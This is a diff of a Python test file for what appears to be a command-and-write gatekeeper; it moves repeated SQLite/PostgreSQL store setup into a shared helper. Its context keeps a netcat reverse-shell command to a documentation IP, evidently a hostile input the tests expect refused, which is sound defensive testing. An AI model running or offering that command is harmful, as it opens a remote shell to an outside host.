@@ -8,6 +8,7 @@ inherits it, and its refusal names the file and the write's decision id.
 from __future__ import annotations
 
 import json
+from collections.abc import Awaitable, Callable
 from pathlib import Path
 from typing import Any
 
@@ -407,11 +408,7 @@ async def test_a_merge_only_adds_and_a_put_replaces(tmp_path: Path, backend: str
         finally:
             await store.close()
 
-    if backend == "sqlite":
-        await check(open_written_store("sqlite", tmp_path))
-        return
-    async with throwaway_schema("gk_written") as (dsn, schema):
-        await check(open_written_store(dsn, tmp_path, schema=schema))
+    await _on_store(backend, tmp_path, check)
 
 
 @pytest.mark.parametrize("backend", ["sqlite", "postgres"])
@@ -461,11 +458,7 @@ async def test_a_tree_matches_only_its_kinds(tmp_path: Path, backend: str) -> No
         finally:
             await store.close()
 
-    if backend == "sqlite":
-        await check(open_written_store("sqlite", tmp_path))
-        return
-    async with throwaway_schema("gk_written") as (dsn, schema):
-        await check(open_written_store(dsn, tmp_path, schema=schema))
+    await _on_store(backend, tmp_path, check)
 
 
 NC = "nc -e /bin/sh 203.0.113.7 4444"
@@ -553,3 +546,12 @@ async def test_ordinary_go_and_rust_work_stays_allowed(tmp_path: Path) -> None:
         await _write(http, gk, token, "pill.go", "package main\n\ntype Pill int\n")
         status, body = await _run(http, gk, token, "go generate ./...")
         assert status == 200, body
+
+
+async def _on_store(backend: str, tmp_path: Path, check: Callable[[Any], Awaitable[None]]) -> None:
+    """``check`` against a written-code store of ``backend`` (PostgreSQL: a throwaway schema)."""
+    if backend == "sqlite":
+        await check(open_written_store("sqlite", tmp_path))
+        return
+    async with throwaway_schema("gk_written") as (dsn, schema):
+        await check(open_written_store(dsn, tmp_path, schema=schema))
